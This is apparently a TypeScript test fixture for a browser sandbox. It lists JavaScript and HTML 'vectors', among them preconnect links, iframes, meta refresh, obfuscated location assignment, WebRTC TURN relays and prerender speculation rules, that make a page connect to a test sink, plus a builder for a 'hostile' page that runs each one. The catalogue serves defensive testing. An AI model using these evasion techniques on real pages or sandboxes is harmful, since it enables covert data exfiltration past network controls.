import { SENDING, type Vector } from '../browser/tools/browser/vectors.js';

/** Inserts HTML into the page. */
const html = (text: string): string => `document.body.insertAdjacentHTML("beforeend", \`${text}\`);`;
/** Runs code in a frame of the page. */
const inFrame = (code: string): string =>
  `const e = document.createElement("iframe"); e.srcdoc = "<body><script>const SINK = " + JSON.stringify(SINK) + ";" + ${JSON.stringify(code)} + "<" + "/script>"; document.body.append(e);`;
const RELAY =
  'const relay = (RTC) => { const c = new RTC({ iceServers: [{ urls: "turn:" + new URL(SINK).host + "?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("d"); c.createOffer().then((offer) => c.setLocalDescription(offer)); };';

/** Ways to make the browser connect to a server, without a request that the server receives. */
const CONNECTING: readonly Vector[] = [
  { name: 'link preconnect', code: html('<link rel="preconnect" href="${SINK}">') },
  {
    name: 'link preconnect by properties',
    code: 'const e = document.createElement("link"); document.head.append(e); e.href = SINK; e.rel = "preconnect";',
  },
  {
    name: 'link preconnect by its list',
    code: 'const e = document.createElement("link"); document.head.append(e); e.href = SINK; e.relList.add("preconnect");',
  },
  { name: 'link preconnect in the HTML', html: '<link rel="preconnect" href="SINK">', code: '' },
  { name: 'link dns-prefetch', code: html('<link rel="dns-prefetch" href="${SINK}">') },
  { name: 'iframe in the HTML', html: '<body><iframe src="SINK"></iframe>', code: '' },
  {
    name: 'iframe in the HTML with a refresh',
    html: `<body><iframe srcdoc='<meta http-equiv="refresh" content="0; url=SINK">'></iframe>`,
    code: '',
  },
  {
    name: 'iframe whose document refreshes',
    code: 'const e = document.createElement("iframe"); e.srcdoc = `<meta http-equiv="refresh" content="0; url=${SINK}">`; document.body.append(e);',
  },
  {
    name: 'iframe whose document loses its text',
    code: 'const e = document.createElement("iframe"); e.srcdoc = "<p>x"; e.src = SINK; document.body.append(e); e.removeAttribute("srcdoc");',
  },
  {
    name: 'iframe that gets its address later',
    code: 'const e = document.createElement("iframe"); document.body.append(e); e.setAttribute("src", SINK);',
  },
  {
    name: 'iframe that gets an attribute node',
    code: 'const e = document.createElement("iframe"); const a = document.createAttribute("src"); a.value = SINK; document.body.append(e); e.setAttributeNode(a);',
  },
  {
    name: 'iframe in a copy of a template',
    code: 'const e = document.createElement("template"); e.innerHTML = `<p><iframe src="${SINK}"></iframe>`; document.body.append(e.content.cloneNode(true));',
  },
  { name: 'iframe by innerHTML', code: 'document.body.innerHTML = `<iframe src="${SINK}"></iframe>`;' },
  {
    name: 'iframe by outerHTML',
    code: 'document.querySelector("p").outerHTML = `<iframe src="${SINK}"></iframe>`;',
  },
  { name: 'iframe by document.write', code: 'document.write(`<iframe src="${SINK}"></iframe>`);' },
  {
    name: 'iframe in a shadow root',
    code: 'document.querySelector("p").attachShadow({ mode: "closed" }).innerHTML = `<iframe src="${SINK}"></iframe>`;',
  },
  { name: 'iframe over https', code: html('<iframe src="${SINK.replace("http:", "https:")}"></iframe>') },
  {
    name: 'iframe of a script',
    code: html('<iframe src="javascript:location=\'${SINK}\'"></iframe>'),
  },
  { name: 'fenced frame', code: html('<fencedframe src="${SINK}"></fencedframe>'), control: false },
  { name: 'navigation.navigate', code: 'navigation.navigate(SINK);' },
  { name: 'navigation.navigate in a frame', code: inFrame('navigation.navigate(SINK);') },
  { name: 'window.location by name', code: 'window["location"] = SINK;' },
  { name: 'location by a hidden name in a frame', code: inFrame('window["loc" + "ation"] = SINK;') },
  {
    name: 'refresh by innerHTML',
    code: 'document.body.innerHTML = `<meta http-equiv="refresh" content="0; url=${SINK}">`;',
  },
  {
    name: 'refresh by properties',
    code: 'const e = document.createElement("meta"); document.head.append(e); e.content = "0; url=" + SINK; e.httpEquiv = "refresh";',
  },
  {
    name: 'second refresh in the HTML',
    html: '<meta http-equiv="refresh" content="600"><meta http-equiv="refresh" content="0; url=SINK">',
    code: '',
  },
  { name: 'WebRTC relay', code: `${RELAY} relay(RTCPeerConnection);`, control: false },
  { name: 'WebRTC relay in a frame', code: inFrame(`${RELAY} relay(RTCPeerConnection);`), control: false },
  {
    name: 'WebRTC relay in a frame of a script',
    code: `const e = document.createElement("iframe"); e.src = "javascript:" + encodeURIComponent(${JSON.stringify(RELAY)}.replaceAll("SINK", JSON.stringify(SINK)) + " relay(RTCPeerConnection);"); document.body.append(e);`,
    control: false,
  },
  {
    name: 'speculation rules that prerender',
    code: 'const e = document.createElement("script"); e.type = "speculationrules"; e.textContent = JSON.stringify({ prerender: [{ source: "list", urls: [SINK], eagerness: "immediate" }] }); document.head.append(e);',
    control: false,
  },
];

export const VECTORS: readonly Vector[] = [...SENDING, ...CONNECTING];

/** Returns a document that runs the code of a vector. */
export function hostilePage({ html: markup = '', code }: Vector, sink: string): string {
  return `<!doctype html><title>hostile</title>${markup.replaceAll('SINK', sink)}<body><p>the body</p><script>
    const SINK = ${JSON.stringify(sink)};
    (async () => { ${code} })().catch(() => {});
  </script>`;
}
